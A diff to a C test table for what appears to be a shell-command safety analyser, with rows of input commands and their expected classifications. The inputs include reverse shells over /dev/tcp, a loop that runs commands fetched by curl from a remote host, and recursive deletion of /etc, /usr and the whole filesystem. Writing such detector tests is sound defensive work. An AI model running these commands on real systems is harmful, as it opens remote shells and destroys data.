@@ -75,9 +75,10 @@ static const struct row redirections_rows[] = {
 	{ "exec > /var/log/x; echo a", "e", "exec writes:/var/log/x ;; echo a" },
 	{ "while true; do echo y; done >> /tmp/fill", "e",
 	  " appends:/tmp/fill ;; true {loop,test} ;; echo y {loop,endless}" },
-	{ "echo \"$K\" > >(sh)", "e", "sh ;; echo ${K}" },
+	{ "echo \"$K\" > >(sh)", "e", "echo ${K} ;; sh" },
 	{ "exec {fd}<>/dev/tcp/203.0.113.1/80; bash <&$fd", "c", "exec ;; bash code?[]<network>" },
 	{ "exec 196<>/dev/tcp/203.0.113.1/80; sh <&196", "c", "exec ;; sh code?[]<network>" },
+	{ "echo 'rm x' > >(sh)", "c", "echo rm x ;; sh code[rm x~]<literal> ;; rm x {nested}" },
 };
 
 static const struct row loops_rows[] = {
@@ -101,9 +102,12 @@ static const struct row loops_rows[] = {
 	  "rm b {loop}" },
 	{ "curl -s http://203.0.113.10/l | while read x; do $x; done", "n",
 	  "curl -s http://203.0.113.10/l name[curl]<literal> ;; "
-	  "read x name[read]<literal> {loop,test} ;; ${x} name?[${x}]<network> {loop,unknown-name}" },
+	  "read x name[read]<literal> {loop,test} ;; "
+	  "$(curl -s http://203.0.113.10/l) name?[$(curl -s http://203.0.113.10/l)]<network> {loop,unknown-name}" },
 	{ "for d in /etc /usr; do rm -rf $d; done", "e",
 	  "rm -rf /etc deletes*:/etc {loop} ;; rm -rf /usr deletes*:/usr {loop}" },
+	{ "find / -type f | while read f; do rm -f \"$f\"; done", "",
+	  "find / -type f ;; read f {loop,test} ;; rm -f $(find / -type f) {loop}" },
 };
 
 static const struct row branches_rows[] = {
